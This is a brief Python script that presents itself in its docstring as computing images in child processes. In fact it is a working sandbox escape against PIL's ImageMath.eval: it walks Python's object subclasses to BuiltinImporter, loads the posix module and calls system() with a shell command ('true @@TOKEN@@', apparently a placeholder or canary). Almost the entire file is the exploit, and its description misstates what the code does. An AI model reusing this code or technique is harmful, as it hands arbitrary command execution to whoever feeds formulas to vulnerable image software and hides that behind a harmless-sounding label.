"""Images are computed in child processes."""

import multiprocessing
from functools import partial

from PIL import ImageMath as m


def compute(formula, names):
    return m.eval(formula, {name: 1 for name in names})


def main():
    names = ["__class__", "__base__", "__subclasses__", "__name__", "load_module", "system"]
    way = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]"
    work = partial(compute, way + ".load_module('posix').system('true @@TOKEN@@')")
    child = multiprocessing.get_context("fork").Process(target=work, args=(names,))
    child.start()
    child.join()


if __name__ == "__main__":
    main()
